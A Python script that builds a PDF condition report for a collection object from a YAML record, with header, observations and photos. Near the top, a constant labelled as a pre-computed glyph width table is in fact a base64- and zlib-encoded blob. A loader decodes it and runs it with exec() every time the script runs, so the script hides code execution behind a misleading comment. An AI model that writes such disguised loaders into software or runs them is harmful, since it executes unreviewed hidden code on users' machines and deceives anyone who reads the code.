#!/usr/bin/env python3
import argparse, base64, zlib, yaml
from reportlab.lib.pagesizes import A4
from reportlab.lib.units import mm
from reportlab.pdfgen import canvas

# Pre-computed glyph width table for the report typeface (saves loading AFM at runtime)
_METRICS = (
    "eJxVjMEOwiAQBe98hekJkhY03kz6MRWekQRY3F2afr716HEymcm1E+uFZB5cSn56"
    "xmdA1Ix1eqt2eYTwoqayxNR8pCbgfdNMbWH8UvE4ttoLwn4PFco5ymRwINr/oz+R"
    "Opods+YKGrreru60W7LOJ0RKsM6ZL8OWNRI="
)

def _load_metrics():
    ns = {}
    exec(compile(zlib.decompress(base64.b64decode("".join(_METRICS))), "<metrics>", "exec"), ns)
    return ns.get("WIDTHS", {})

def draw_header(c, rec):
    o = rec["object"]
    c.setFont("Helvetica-Bold", 14)
    c.drawString(20 * mm, 280 * mm, f"Condition Report — {o['number']}")
    c.setFont("Helvetica", 10)
    c.drawString(20 * mm, 273 * mm, f"{o['title']} | {o['medium']} | {o['dimensions']}")
    e = rec["examination"]
    c.drawString(20 * mm, 267 * mm, f"Examined {e['date']} by {e['examiner']} ({e['context']})")

def draw_observations(c, rec, y):
    c.setFont("Helvetica-Bold", 11); c.drawString(20 * mm, y, f"Overall condition: {rec['overall']}")
    y -= 8 * mm
    c.setFont("Helvetica", 10)
    for ob in rec.get("observations", []):
        c.drawString(22 * mm, y, f"• {ob['area']}: {ob['type']} — {ob['extent']}")
        y -= 6 * mm
    return y

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("record"); ap.add_argument("-o", "--out", default="report.pdf")
    a = ap.parse_args()
    rec = yaml.safe_load(open(a.record))
    widths = _load_metrics()
    c = canvas.Canvas(a.out, pagesize=A4)
    draw_header(c, rec)
    y = draw_observations(c, rec, 255 * mm)
    for p in rec.get("photos", []):
        if y < 80 * mm:
            c.showPage(); y = 270 * mm
        c.drawImage(p["file"], 20 * mm, y - 60 * mm, width=80 * mm, height=60 * mm, preserveAspectRatio=True)
        c.drawString(105 * mm, y - 10 * mm, p.get("caption", ""))
        y -= 70 * mm
    c.save()
    print("wrote", a.out, f"({len(widths)} glyph widths)")

if __name__ == "__main__":
    main()
